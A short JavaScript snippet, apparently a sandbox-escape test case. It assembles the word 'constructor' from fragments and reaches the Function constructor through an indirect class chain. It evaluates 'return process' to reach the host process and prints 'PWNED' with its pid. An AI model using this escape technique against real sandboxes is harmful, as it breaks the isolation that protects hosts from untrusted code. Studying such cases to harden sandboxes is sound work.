'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
class B { a() { return t; } }
class D extends B { a() { return super.a(); } }
const o = Date.now() > 1 ? new D().a() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
